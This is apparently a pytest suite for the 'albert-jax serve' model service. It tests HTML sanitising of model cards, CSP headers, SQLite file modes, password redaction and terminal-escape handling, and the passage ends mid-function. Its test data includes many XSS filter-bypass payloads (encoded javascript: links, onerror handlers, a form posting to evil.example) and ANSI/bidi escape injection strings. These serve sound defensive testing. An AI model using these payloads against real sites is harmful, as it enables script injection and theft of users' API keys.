"""The service probed as an attacker and as an operator would: one class per concern (the
page, billing, untrusted strings, admission and fairness, secrets and files, start-up).

Every case runs against a real ``albert-jax serve`` process over real HTTP, with a real
SQLite file or a real PostgreSQL server; tiny random models (tests/serve_util.py).
"""

from __future__ import annotations

import pytest

httpx = pytest.importorskip("httpx")
pytest.importorskip("fastapi")
from serve_util import Server, cli, jax_cache_dir, tiny_model  # noqa: E402


def auth(key: str) -> dict:
    return {"Authorization": f"Bearer {key}"}


# ---------------------------------------------------------------------- the page
class TestPage:
    """The model page cannot leak the API key: the hub card is sanitised, every response
    carries a Content-Security-Policy, /docs loads nothing from another origin."""

    # A card from a hostile hub repository: script URLs in every encoding, raw HTML, and a
    # key-value table whose header row is empty.
    HOSTILE_CARD = (
        "# hostile\n\n"
        "[steal](&#106;avascript:void(document.title=/pwned/.source))\n\n"
        "<script>document.title='pwned'</script>\n\n"
        "<img src=x onerror=\"document.title='pwned'\">\n\n"
        "| | |\n|---|---|\n| kind | hostile |\n"
    )
    HOSTILE = (
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;&#x61;vascript:alert(1))",
        "[x](&#0000106avascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](java&#9;script:alert(1))",
        "[x](java&#x0A;script:alert(1))",
        "[x](\x01javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](j&#x61;v&#97;script&#x3a;alert(1))",
        "[x](&#106;ava&#x09;script&colon;alert(1))",
        "[x](&amp;#106;avascript:alert(1))",
        "[x](&#38;#106;avascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox(1))",
        "[x]: javascript:alert(1)\n\n[y][x]",
        "![i](javascript:alert(1))",
        "![i](data:image/svg+xml,<svg onload=alert(1)>)",
        "| [x](&#106;avascript:alert(1)) | b |\n|---|---|\n| c | d |",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><circle/></svg>",
        '<a href="javascript:alert(1)">y</a>',
        "<script>alert(1)</script>",
        '<div>\n<script>alert(1)</script>\n</div>',
        '<iframe src="javascript:alert(1)"></iframe>',
        "<style>body { display: none }</style>",
        '<p style="background: url(javascript:alert(1))" onclick="alert(1)">p</p>',
        "<!-- <script>alert(1)</script> -->",
    )
    # The same forms as raw HTML straight into the sanitiser: the guarantee does not depend
    # on Markdown escaping the card's HTML.
    HOSTILE_HTML = (
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="java&#9;script:alert(1)">x</a>',
        '<a href=" JaVaScRiPt:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        "<img src=x onerror=alert(1)>",
        '<img src="javascript:alert(1)">',
        "<svg onload=alert(1)><circle/></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<script>alert(1)</script><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<form action="https://evil.example"><input name="key"></form>',
        '<object data="javascript:alert(1)"></object><embed src="x.swf">',
        '<td style="text-align: left" class="evil align-left">c</td>',
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=x">',
        '<a href="/ok" onmouseover="alert(1)" target="_blank">x</a>',
    )

    # ------------------------------------------------------------ unit: render_card
    @staticmethod
    def _parse(fragment: str) -> list[tuple[str, dict[str, str | None]]]:
        """The elements of an HTML fragment: (tag, attributes decoded once, as a browser)."""
        from html.parser import HTMLParser

        found: list[tuple[str, dict[str, str | None]]] = []

        class Collect(HTMLParser):
            def handle_starttag(self, tag, attrs):
                found.append((tag, dict(attrs)))

        parser = Collect(convert_charrefs=True)
        parser.feed(fragment)
        parser.close()
        return found

    @classmethod
    def assert_safe(cls, fragment: str) -> None:
        """Only allowlisted tags; no event handler or style attribute; every URL http(s),
        mailto or relative, even decoded again and stripped of whitespace and controls."""
        import html
        import re

        from albert_jax.serving import page

        for tag, attrs in cls._parse(fragment):
            assert tag in page.CARD_TAGS, (tag, fragment)
            for name, value in attrs.items():
                assert not name.startswith("on") and name != "style", (name, fragment)
                if name in ("href", "src"):
                    url = value or ""
                    for _ in range(4):
                        url = html.unescape(url)
                    url = re.sub(r"[\x00-\x20\x7f-\x9f]", "", url).lower()
                    scheme = re.match(r"[a-z][a-z0-9+.-]*:", url)
                    assert scheme is None or scheme.group() in ("http:", "https:", "mailto:"), (
                        value, fragment)
        lowered = fragment.lower()
        for needle in ("<script", "<iframe", "<svg", "<style", "<object", "<embed", "<form"):
            assert needle not in lowered, (needle, fragment)

    @pytest.mark.parametrize("card", HOSTILE)
    def test_hostile_card(self, card: str) -> None:
        from albert_jax.serving import page

        out = page.render_card(card)
        self.assert_safe(out)
        for tag, attrs in self._parse(out):
            if tag == "a":  # every link, kept or not, is cut off from the page
                assert attrs.get("rel") == "noopener noreferrer", out

    @pytest.mark.parametrize("fragment", HOSTILE_HTML)
    def test_sanitize_raw_html(self, fragment: str) -> None:
        from albert_jax.serving import page

        self.assert_safe(page.sanitize(fragment))

    def test_script_links_lose_their_url(self) -> None:
        from albert_jax.serving import page

        out = page.render_card("[docs](&#106;avascript:alert(1)) <a href=x>raw</a>")
        assert '<a rel="noopener noreferrer">docs</a>' in out
        assert "&lt;a href=x&gt;raw&lt;/a&gt;" in out  # raw HTML is shown, not parsed

    def test_relative_and_web_urls_survive(self) -> None:
        from albert_jax.serving import page

        out = page.render_card(
            "[a](docs/usage.md) [b](/v1/models) [c](#limits) [d](../x?y=1&z=2) "
            "[e](https://huggingface.co/albert \"hub\") [f](http://example.com) "
            "[g](mailto:a@example.com) <https://example.org/x> ![h](images/fig.png)")
        self.assert_safe(out)
        links = [attrs for tag, attrs in self._parse(out) if tag == "a"]
        assert [a["href"] for a in links] == [
            "docs/usage.md", "/v1/models", "#limits", "../x?y=1&z=2",
            "https://huggingface.co/albert", "http://example.com", "mailto:a@example.com",
            "https://example.org/x"]
        assert links[4]["title"] == "hub"
        assert ("img", {"alt": "h", "src": "images/fig.png"}) in self._parse(out)

    def test_code_stays_text(self) -> None:
        from albert_jax.serving import page

        out = page.render_card("```html\n<script>alert(1)</script>\n```\n\n`<b>` and **bold**")
        assert "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>" in out
        assert "<code>&lt;b&gt;</code>" in out and "<strong>bold</strong>" in out

    def test_no_card(self) -> None:
        from albert_jax.serving import page

        assert page.render_card(None) == page.render_card("  \n") == "<p>No model card.</p>"

    def test_front_matter_is_not_shown(self) -> None:
        from albert_jax.serving import page

        out = page.render_card("---\nlanguage: en\nlicense: apache-2.0\n---\n# Title\n\ntext\n")
        assert out == "<h1>Title</h1>\n<p>text</p>"

    # ------------------------------------------------------------ unit: tables
    def test_packaged_card_table_has_no_empty_header_row(self) -> None:
        from serve_util import REPO

        from albert_jax.serving import page

        card = (REPO / "albert_jax/models/albert-mini/MODEL_CARD.md").read_text("utf-8")
        out = page.render_card(card)
        self.assert_safe(out)
        tags = [tag for tag, _ in self._parse(out)]
        assert tags.count("table") == 2 and tags.count("thead") == 1  # the metrics table's
        assert "<td>Architecture</td>" in out and "<th>metric</th>" in out
        assert "<th></th>" not in out

    def test_table_headers(self) -> None:
        from serve_util import CARD

        from albert_jax.serving import page

        out = page.render_card(CARD)  # the test servers' card keeps its header
        assert "<thead>\n<tr>\n<th>field</th>\n<th>value</th>" in out
        partly = page.render_card("| | a |\n|---|---|\n| 1 | 2 |")
        assert "<thead>" in partly and "<th>a</th>" in partly  # one named column: kept
        empty = page.render_card("|  |  |\n|--|--|\n| 1 | 2 |")
        assert "<thead>" not in empty and "<th>" not in empty and "<td>1</td>" in empty

    def test_alignment_is_a_class_not_a_style(self) -> None:
        from pathlib import Path

        from albert_jax.serving import page

        out = page.render_card("| a | b | c | d |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |")
        self.assert_safe(out)
        assert '<th class="align-left">a</th>' in out and '<td class="align-center">2</td>' in out
        assert '<td class="align-right">3</td>' in out and "<td>4</td>" in out
        assert "style" not in out
        css = (Path(page.STATIC_DIR) / "page.css").read_text("utf-8")
        for align in ("left", "center", "right"):
            assert f".align-{align} {{ text-align: {align}; }}" in css

    # ------------------------------------------------------------ unit: headers, static
    def test_security_headers(self) -> None:
        from albert_jax.serving import page

        headers = {k.decode(): v.decode() for k, v in page.SECURITY_HEADERS}
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"
        assert headers["x-frame-options"] == "DENY"
        policy = {}
        for directive in headers["content-security-policy"].split(";"):
            name, *sources = directive.split()
            policy[name] = sources
        assert policy["default-src"] == ["'none'"]
        assert policy["script-src"] == ["'self'"] and policy["style-src"] == ["'self'"]
        assert policy["connect-src"] == ["'self'"] and policy["form-action"] == ["'self'"]
        assert policy["base-uri"] == ["'none'"] and policy["frame-ancestors"] == ["'none'"]
        for name, sources in policy.items():  # no inline code, no other origin anywhere
            assert set(sources) <= {"'self'", "'none'", "data:"}, (name, sources)
        assert "data:" not in policy["script-src"] + policy["default-src"]

    def test_static_pages_have_no_inline_code(self) -> None:
        import re
        from pathlib import Path

        from albert_jax.serving import page

        for name in ("page.html", "docs.html"):
            text = (Path(page.STATIC_DIR) / name).read_text("utf-8")
            elements = self._parse(text)
            assert "style" not in [tag for tag, _ in elements], name
            for tag, attrs in elements:
                assert not any(a.startswith("on") or a == "style" for a in attrs), (name, tag)
                if tag == "script":
                    assert attrs.get("src", "").startswith("/static/"), name
                if tag in ("link", "script", "img") and (attrs.get("href") or attrs.get("src")):
                    assert (attrs.get("href") or attrs.get("src")).startswith("/"), (name, tag)
            # every <script> is empty: its code is a file
            assert re.fullmatch(r"(?s)(?:[^<]|<(?!script))*(?:<script src=\"[^\"]+\">"
                                r"</script>(?:[^<]|<(?!script))*)*", text), name

    def test_render_pages_once_per_model(self, monkeypatch) -> None:
        from types import SimpleNamespace

        from albert_jax.serving import page

        cards = []
        render_card = page.render_card
        monkeypatch.setattr(page, "render_card", lambda c: cards.append(c) or render_card(c))
        served = {name: SimpleNamespace(source=f"/m/{name}", price_per_second=0.5,
                                        card=self.HOSTILE_CARD, max_length=64,
                                        info=lambda: {"parameters": 1234})
                  for name in ("a", "b/c")}
        service = SimpleNamespace(models=served, default_model="a",
                                  options=SimpleNamespace(allow_anonymous=False))
        pages = page.render_pages(service)
        assert list(pages) == ["a", "b/c"] and len(cards) == 2
        assert '<h1 id="model-name">b/c</h1>' in pages["b/c"]
        assert f'<a href="{page.API_URL}">API</a>' in pages["a"]
        self.assert_safe(pages["a"].split('id="card">', 1)[1].split("</section>", 1)[0])

    # ------------------------------------------------------------ a real server
    @pytest.fixture(scope="class")
    @classmethod
    def hostile(cls, tmp_path_factory):
        """One server whose only model's README.md card is hostile, and an API key."""
        root = tmp_path_factory.mktemp("hostile-page")
        model = tiny_model(root / "hostile")
        (model / "README.md").write_text(cls.HOSTILE_CARD, encoding="utf-8")
        db = f"sqlite:///{root / 'ledger.db'}"
        key = cli("keys", "create", "--db", db, "--name", "p").stdout.strip()
        server = Server(["--model", str(model), "--db", db, "--max-batch-size", "2",
                         "--length-buckets", "32", "--pack-length", "16", "--cache-dir",
                         str(jax_cache_dir(tmp_path_factory))], root, "hostile")
        try:
            server.wait_ready()
            yield dict(server=server, key=key, root=root)
        finally:
            server.kill()

    @staticmethod
    def assert_security_headers(response) -> None:
        from albert_jax.serving import page

        for name, value in page.SECURITY_HEADERS:
            assert response.headers.get(name.decode()) == value.decode(), (name, response.url)

    def test_served_page_is_sanitised_with_headers(self, hostile) -> None:
        url = hostile["server"].url
        for path in ("/", "/models/hostile"):
            response = httpx.get(url + path)
            assert response.status_code == 200, response.text
            self.assert_security_headers(response)
            card = response.text.split('id="card">', 1)[1].split("</section>", 1)[0]
            self.assert_safe(card)
            assert '<a rel="noopener noreferrer">steal</a>' in card
            assert "&lt;script&gt;document.title" in card and "<thead>" not in card
            assert "<td>kind</td>" in card
        assert httpx.get(url + "/").text == httpx.get(url + "/models/hostile").text
        for path in ("/v1/models", "/static/page.js", "/no/such/route"):
            self.assert_security_headers(httpx.get(url + path))

    def test_docs_from_our_own_origin(self, hostile) -> None:
        from albert_jax.serving import page

        if page.SWAGGER_DIR is None:
            pytest.skip("swagger-ui-bundle is not installed")
        url = hostile["server"].url
        docs = httpx.get(url + "/docs")
        assert docs.status_code == 200 and "text/html" in docs.headers["content-type"]
        self.assert_security_headers(docs)
        assert "cdn." not in docs.text and "://" not in docs.text
        for tag, attrs in self._parse(docs.text):
            ref = attrs.get("src") or attrs.get("href")
            if ref:
                assert ref.startswith("/static/"), (tag, ref)
                asset = httpx.get(url + ref)
                assert asset.status_code == 200, ref
                self.assert_security_headers(asset)
        assert httpx.get(url + "/openapi.json").json()["info"]["title"]
        assert httpx.get(url + "/redoc").status_code == 404

    def test_page_in_browser_under_the_policy(self, hostile) -> None:
        """Chromium: the hostile link runs nothing, the page computes an answer with no CSP
        violation, /docs renders the spec with none; an injected inline script is refused."""
        import time

        from serve_util import chromium

        driver = chromium(hostile["root"] / "chromium-profile", browser_log=True)
        from selenium.webdriver.common.by import By
        from selenium.webdriver.support.ui import WebDriverWait

        def violations() -> list[str]:
            return [e["message"] for e in driver.get_log("browser")
                    if "Content Security Policy" in e["message"]
                    or "Refused to" in e["message"]]

        url = hostile["server"].url
        try:
            driver.get(url + "/models/hostile")
            title = driver.title
            assert title.startswith("hostile") and "pwned" not in title
            [link] = [a for a in driver.find_elements(By.CSS_SELECTOR, "#card a")
                      if a.text == "steal"]
            link.click()
            time.sleep(0.5)
            assert driver.title == title and driver.current_url == url + "/models/hostile"
            driver.find_element(By.ID, "api-key").send_keys(hostile["key"])
            driver.find_element(By.ID, "compute").click()
            WebDriverWait(driver, 60).until(
                lambda d: d.find_elements(By.CSS_SELECTOR, "#results li"))
            bars = driver.find_elements(By.CSS_SELECTOR, "#results .bar")
            assert bars and bars[0].size["width"] > 0  # element.style from page.js applies
            assert driver.execute_script(
                "return sessionStorage.getItem('albert_jax_key')") == hostile["key"]
            assert violations() == []

            driver.get(url + "/docs")
            WebDriverWait(driver, 60).until(
                lambda d: d.find_elements(By.CSS_SELECTOR, ".swagger-ui .opblock"))
            assert "/v1/inference/{model}" in driver.find_element(By.ID, "swagger-ui").text
            assert violations() == []

            # The policy itself, behind the sanitiser: an inline script added to the page
            # does not run, and the browser reports it (so the empty lists above mean it).
            driver.get(url + "/models/hostile")
            driver.execute_script(
                "const s = document.createElement('script');"
                "s.textContent = \"document.title = 'pwned'\"; document.body.appendChild(s);")
            time.sleep(0.3)
            assert driver.title == title
            assert any("script-src" in v for v in violations())
        finally:
            driver.quit()


# ---------------------------------------------------------------------- secrets and files
class TestSecrets:
    """The database as an operator's hazard: SQLite files private whatever the umask, no
    password in any message, $ALBERT_JAX_DB instead of a password on the command line, the
    read-only commands creating nothing, key names and table cells that cannot reach the
    terminal as escapes, and an unreachable PostgreSQL failing in seconds."""

    PASSWORD = "s3cret-pw"
    HOSTILE = "evil\x1b[2J\x1b]0;pwned\x07\r\nfake\x00\x9b31m\u202edrow\u2066"

    @pytest.fixture(scope="class")
    @classmethod
    def postgres(cls):
        from serve_util import Postgres

        server = Postgres()
        yield server
        server.stop()

    @pytest.fixture(scope="class")
    @classmethod
    def model(cls, tmp_path_factory):
        return tiny_model(tmp_path_factory.mktemp("secrets") / "tiny")

    @pytest.fixture(autouse=True)
    def _no_default_db(self, tmp_path, monkeypatch):
        # Never the user's own data directory, nor an $ALBERT_JAX_DB of the environment.
        monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "xdg"))
        monkeypatch.delenv("ALBERT_JAX_DB", raising=False)

    @staticmethod
    def one_line_error(out) -> str:
        assert out.returncode == 2 and out.stdout == "", out
        assert out.stderr.startswith("albert-jax: error: ") and out.stderr.count("\n") == 1, out
        assert "Traceback" not in out.stderr
        return out.stderr

    @staticmethod
    def mode(path) -> int:
        import stat

        return stat.S_IMODE(path.stat().st_mode)

    @staticmethod
    def fresh_pg_database(postgres, name: str) -> str:
        import sqlalchemy as sa

        engine = sa.create_engine(postgres.url, isolation_level="AUTOCOMMIT")
        with engine.connect() as conn:
            conn.exec_driver_sql(f"CREATE DATABASE {name}")
        engine.dispose()
        return postgres.url.rsplit("/", 1)[0] + "/" + name

    def unreachable(self) -> str:
        from serve_util import free_port

        return f"postgresql+psycopg://albert:{self.PASSWORD}@127.0.0.1:{free_port()}/ledger"

    # ------------------------------------------------------------ files
    @pytest.mark.parametrize("umask", [0, 0o022])
    def test_sqlite_file_and_directory_modes(self, tmp_path, umask: int) -> None:
        import os

        import sqlalchemy as sa

        from albert_jax.serving import db

        path = tmp_path / "new" / "dir" / "serve.db"
        old = os.umask(umask)
        try:
            cli("keys", "create", "--db", f"sqlite:///{path}", "--name", "k")
            assert self.mode(path) == 0o600 and self.mode(path.parent) == 0o700
            # Written while a connection holds the WAL open: the side files exist, and SQLite
            # gives them the main file's mode (not 0666 & ~umask).
            engine = db.connect(f"sqlite:///{path}")
            with engine.connect() as conn:
                conn.execute(db.usage.insert(), [self.usage_row("a", "k", "m")])
                conn.commit()
                wal, shm = (path.with_name(path.name + s) for s in ("-wal", "-shm"))
                assert wal.exists() and shm.exists()
                assert self.mode(wal) == 0o600 and self.mode(shm) == 0o600
                assert conn.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"
            engine.dispose()

            # The default file in the user data directory ($XDG_DATA_HOME here), the same.
            cli("keys", "create", "--name", "k")
            default = tmp_path / "xdg" / "albert_jax"
            assert self.mode(default / "serve.db") == 0o600 and self.mode(default) == 0o700

            # A directory that exists is not ours to change; the new file in it is private.
            shared = tmp_path / "shared"
            shared.mkdir(mode=0o755)
            shared.chmod(0o755)
            cli("keys", "create", "--db", f"sqlite:///{shared / 'x.db'}", "--name", "k")
            assert self.mode(shared) == 0o755 and self.mode(shared / "x.db") == 0o600
        finally:
            os.umask(old)
        assert sa.inspect(sa.create_engine(f"sqlite:///{path}")).has_table("usage")

    def test_default_directory_of_an_older_version_is_tightened(self, tmp_path) -> None:
        default = tmp_path / "xdg" / "albert_jax"
        default.mkdir(parents=True)
        default.chmod(0o755)
        cli("keys", "create", "--name", "k")
        assert self.mode(default) == 0o700

    def test_sqlite_settings(self, tmp_path) -> None:
        from albert_jax.serving import db

        engine = db.connect(f"sqlite:///{tmp_path / 'x.db'}")
        with engine.connect() as conn:
            # FULL: a committed ledger row (a billing record) survives a power loss.
            assert conn.exec_driver_sql("PRAGMA synchronous").scalar() == 2
            assert conn.exec_driver_sql("PRAGMA busy_timeout").scalar() == \
                db.SQLITE_BUSY_TIMEOUT_S * 1000
        assert engine.pool.timeout() == db.POOL_TIMEOUT_S
        engine.dispose()

    # ------------------------------------------------------------ passwords
    def test_redact(self) -> None:
        from albert_jax.serving import db

        pw = self.PASSWORD
        assert db.redact(f"postgresql+psycopg://u:{pw}@h:5432/d") == \
            "postgresql+psycopg://u:***@h:5432/d"
        assert db.redact(f"postgresql+psycopg://u@h/d?password={pw}&sslmode=require") == \
            "postgresql+psycopg://u@h/d?password=***&sslmode=require"
        assert db.redact("sqlite:////tmp/x y.db") == "sqlite:////tmp/x y.db"
        for bad in (f"u:{pw}@host", f"postgresql+psycopg://u:{pw}@h:port/d", ""):
            assert db.redact(bad) == "(unparseable URL)"
        # An exception's own text that holds the URL or the password (raw or URL-encoded).
        url = "postgresql+psycopg://u:p%40ss%2Fw0rd@h/d"
        line = db.describe_error(url, RuntimeError(f"at {url}: p@ss/w0rd p%40ss%2Fw0rd\nx"))
        assert "p@ss" not in line and "p%40ss" not in line and "\n" not in line
        assert line.startswith("database postgresql+psycopg://u:***@h/d: ")

    def test_no_password_in_any_message(self, model, tmp_path, monkeypatch) -> None:
        url = self.unreachable()
        commands = [("usage",), ("usage", "--json"), ("keys", "list"),
                    ("keys", "revoke", "--name", "k"), ("keys", "create", "--name", "k"),
                    ("serve", "--model", str(model), "--no-compile-cache")]
        for command in commands:
            for via_env in (False, True):
                if via_env:
                    monkeypatch.setenv("ALBERT_JAX_DB", url)
                    out = cli(*command, check=False)
                    monkeypatch.delenv("ALBERT_JAX_DB")
                else:
                    out = cli(*command, "--db", url, check=False)
                assert out.returncode == 2, (command, out)
                assert self.PASSWORD not in out.stdout + out.stderr, (command, out)
                assert "albert:***@127.0.0.1" in out.stderr, (command, out)
                assert "Connection refused" in out.stderr
        for bad in (f"albert:{self.PASSWORD}@host/db", f"postgresql://a:{self.PASSWORD}@h:x/d"):
            line = self.one_line_error(cli("usage", "--db", bad, check=False))
            assert self.PASSWORD not in line and "does not parse" in line
        line = self.one_line_error(cli("keys", "list", "--db",
                                       f"nosuchdialect://a:{self.PASSWORD}@h/d", check=False))
        assert self.PASSWORD not in line and "a:***@h" in line

    # ------------------------------------------------------------ $ALBERT_JAX_DB
    def test_environment_default_and_the_flag_wins(self, tmp_path, monkeypatch) -> None:
        from albert_jax import cli as albert_cli
        from albert_jax.serving import db

        via_env, via_flag = tmp_path / "env.db", tmp_path / "flag.db"
        monkeypatch.setenv("ALBERT_JAX_DB", f"sqlite:///{via_env}")
        cli("keys", "create", "--name", "from-env")
        assert via_env.exists()
        assert "from-env" in cli("keys", "list").stdout
        cli("keys", "revoke", "--name", "from-env")
        assert "total" in cli("usage").stdout
        cli("keys", "create", "--db", f"sqlite:///{via_flag}", "--name", "from-flag")
        listing = cli("keys", "list", "--db", f"sqlite:///{via_flag}").stdout
        assert "from-flag" in listing and "from-env" not in listing
        assert "from-flag" not in cli("keys", "list").stdout
        missing = tmp_path / "missing.db"
        assert "no database" in self.one_line_error(
            cli("usage", "--db", f"sqlite:///{missing}", check=False))
        assert not missing.exists()
        for command in (("serve",), ("keys", "create"), ("keys", "list"), ("keys", "revoke"),
                        ("usage",)):
            assert "$ALBERT_JAX_DB" in " ".join(cli(*command, "--help").stdout.split())
        assert albert_cli._KEY_NAME_RULE == db.KEY_NAME_RULE

    # ------------------------------------------------------------ no database
    @pytest.mark.parametrize("command", [("usage",), ("keys", "list"),
                                         ("keys", "revoke", "--name", "k")])
    def test_missing_sqlite_database(self, tmp_path, command) -> None:
        path = tmp_path / "sub" / "serve.db"
        line = self.one_line_error(cli(*command, "--db", f"sqlite:///{path}", check=False))
        assert f"no database at sqlite:///{path} (`albert-jax keys create` or `serve` " \
            "creates one)" in line
        assert not path.parent.exists()
        line = self.one_line_error(cli(*command, check=False))  # the default file
        assert "no database at sqlite:///" in line and not (tmp_path / "xdg").exists()
        empty = tmp_path / "empty.db"
        empty.touch()
        line = self.one_line_error(cli(*command, "--db", f"sqlite:///{empty}", check=False))
        assert "has no albert-jax tables" in line and empty.stat().st_size == 0

    def test_missing_postgres_tables(self, postgres) -> None:
        import sqlalchemy as sa

        url = self.fresh_pg_database(postgres, "fresh")
        for command in (("usage",), ("keys", "list"), ("keys", "revoke", "--name", "k")):
            line = self.one_line_error(cli(*command, "--db", url, check=False))
            assert "/fresh has no albert-jax tables (api_keys, usage;" in line, line
        assert sa.inspect(sa.create_engine(url)).get_table_names() == []
        cli("keys", "create", "--db", url, "--name", "pg-key")  # creates them
        assert "pg-key" in cli("keys", "list", "--db", url).stdout
        assert "total" in cli("usage", "--db", url).stdout

    def test_postgres_settings(self, postgres) -> None:
        from albert_jax.serving import db

        engine = db.connect(postgres.url)
        with engine.connect() as conn:
            assert conn.exec_driver_sql("SHOW statement_timeout").scalar() == \
                f"{db.PG_STATEMENT_TIMEOUT_MS // 1000}s"
        assert engine.pool.timeout() == db.POOL_TIMEOUT_S
        engine.dispose()
        # The URL's own options are kept; the statement timeout is added to them.
        engine = db.connect(postgres.url + "?options=-c%20application_name%3Dledger")
        with engine.connect() as conn:
            assert conn.exec_driver_sql("SHOW application_name").scalar() == "ledger"
            assert conn.exec_driver_sql("SHOW statement_timeout").scalar() != "0"
        engine.dispose()

    def test_unreachable_postgres_fails_fast(self) -> None:
        import socket
        import time

        start = time.monotonic()
        line = self.one_line_error(cli("usage", "--db", self.unreachable(), check=False))
        assert "Connection refused" in line and time.monotonic() - start < 10
        # A listener that accepts the connection and never answers (a stuck server, a
        # black-holing firewall): the connect timeout ends it, not TCP's minutes.
        with socket.socket() as silent:
            silent.bind(("127.0.0.1", 0))
            silent.listen(8)
            url = f"postgresql+psycopg://u:{self.PASSWORD}@127.0.0.1:{silent.getsockname()[1]}/d"
            start = time.monotonic()
            line = self.one_line_error(cli("usage", "--db", url, check=False))
            assert time.monotonic() - start < 10 and "timeout" in line and "u:***@" in line

    # ------------------------------------------------------------ key names, table cells
    @pytest.mark.parametrize("name", ["a", "Z", "9" * 64, "alice.smith_2@example.com",
                                      "team+ci-bot"])
    def test_good_key_names(self, tmp_path, name: str) -> None:
        url = f"sqlite:///{tmp_path / 'k.db'}"
        cli("keys", "create", "--db", url, "--name", name)
        assert name in cli("keys", "list", "--db", url).stdout

    @pytest.mark.parametrize("name", ["a\x1b[31m", "x" * 65, "", "-lead", ".dot", "_u", "a b",
                                      "tab\there", "new\nline", "caf\u00e9", "rtl\u202e",
                                      "semi;colon", "slash/x", "a\x00"])
    def test_bad_key_names(self, tmp_path, name: str) -> None:
        path = tmp_path / "k.db"
        line = self.one_line_error(
            cli("keys", "create", "--db", f"sqlite:///{path}", f"--name={name}", check=False))
        assert "1 to 64 characters from A-Z a-z 0-9 . _ @ + -, starting with a letter or a " \
            "digit" in line
        assert not any(c in line for c in "\x1b\x00\t\u202e")
        assert not path.exists()  # refused before any database is created

    @staticmethod
    def usage_row(request_id: str, key_name: str, model: str) -> dict:
        from albert_jax.serving import db

        return dict(request_id=request_id, created_at=db.now(), day="2026-01-02",
                    key_name=key_name, model=model, endpoint="POST /v1/inference/x",
                    status=200, error_type=None, tokens=5, runtime_ms=2.0, cost=1e-6,
                    latency_ms=3.0, replica="r")

    def test_tables_escape_control_characters(self, tmp_path) -> None:
        import json

        from albert_jax.serving import db

        url = f"sqlite:///{tmp_path / 'h.db'}"
        engine = db.connect(url)
        with engine.begin() as conn:  # Past the name rule: rows from anywhere else.
            conn.execute(db.api_keys.insert().values(
                name=self.HOSTILE, key_hash="0" * 64, prefix="ajk_\x1b[0m", rate_limit=None,
                created_at=db.now()))
        db.insert_usage(engine, [self.usage_row("r1", self.HOSTILE, "model\x1b[31m\u202e")])
        engine.dispose()
        raw = "\x1b\x00\x07\r\x9b\u202e\u2066"
        for command in (("usage",), ("keys", "list")):
            out = cli(*command, "--db", url).stdout
            assert not any(c in out for c in raw), (command, out)
            assert out.count("\n") == (3 if command == ("usage",) else 2), out
            assert "evil\\x1b[2J\\x1b]0;pwned\\x07\\r\\nfake\\x00\\x9b31m\\u202edrow\\u2066" \
                in out
        assert "model\\x1b[31m\\u202e" in cli("usage", "--db", url).stdout
        rows = json.loads(cli("usage", "--db", url, "--json").stdout)
        assert rows[0]["key_name"] == self.HOSTILE and rows[0]["model"] == "model\x1b[31m\u202e"
        revoked = cli("keys", "revoke", "--db", url, "--name", self.HOSTILE)
        assert not any(c in revoked.stderr for c in raw) and "revoked key" in revoked.stderr

    def test_printable(self) -> None:
        from albert_jax.serving.text import printable

        assert printable("plain é ü 名前 \\x1b") == "plain é ü 名前 \\x1b"
        assert printable("a\x1b[31mb\r\n\t\x00\x7f\x85\x9b") == \
            "a\\x1b[31mb\\r\\n\\t\\x00\\x7f\\x85\\x9b"
        for code in [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C,
                     0x2028, 0x2029, 0xDC80]:
            assert printable(chr(code)) == f"\\u{code:04x}"
        assert printable("abcdef", 4) == "abc\u2026" and printable("abcd", 4) == "abcd"
        assert printable("a\x1bbc", 5) == "a\u2026"  # never half an escape
        assert len(printable("\x1b" * 1000, 50)) <= 50 and printable("", 3) == ""


# ---------------------------------------------------------------------- shared
# Small servers: one tiny model, batches of up to 2, inputs of up to 32 tokens, rows of up
# to 16 tokens packed (few shapes to compile); the session's compilation cache.
def _server_args(model, db: str, cache) -> list[str]:
    return ["--model", f"tiny={model}", "--db", db, "--max-batch-size", "2",
            "--length-buckets", "32", "--max-length", "32", "--pack-length", "16",
            "--cache-dir", str(cache)]


def _ledger(url: str) -> dict[str, dict]:
    """Every ledger row by request id, read straight from the database."""
    import sqlalchemy as sa

    engine = sa.create_engine(url)
    try:
        with engine.connect() as conn:
            rows = [dict(r) for r in conn.execute(sa.text("select * from usage")).mappings()]
    finally:
        engine.dispose()
    by_id = {r["request_id"]: r for r in rows}
    assert len(by_id) == len(rows)  # a request id is never stored twice
    return by_id


async def _clients(url: str, key: str, n_clients: int, stop, answers: list, texts=None,
                   timeout: float = 60.0) -> None:
    """``n_clients`` loops of fill-mask requests until ``stop()``; every response (or the
    exception that ended a request) and its duration go to ``answers``."""
    import asyncio
    import time

    texts = texts or ["where is my [MASK]?", "The capital of France is [MASK]."]

    async def loop(client, j):
        i = j
        while not stop():
            start = time.perf_counter()
            try:
                r = await client.post("/v1/inference/tiny",
                                      json={"input": texts[i % len(texts)]})
            except httpx.HTTPError as e:
                answers.append((e, time.perf_counter() - start))
                await asyncio.sleep(0.05)
            else:
                answers.append((r, time.perf_counter() - start))
            i += n_clients

    async with httpx.AsyncClient(base_url=url, headers=auth(key), timeout=timeout) as client:
        await asyncio.gather(*(loop(client, j) for j in range(n_clients)))


def _usage_row(request_id: str | None, **changes) -> dict:
    """A billed ledger row as the service writes one (``changes`` replace fields)."""
    from albert_jax.serving import db

    return {"request_id": request_id, "created_at": db.now(), "day": "2026-12-08",
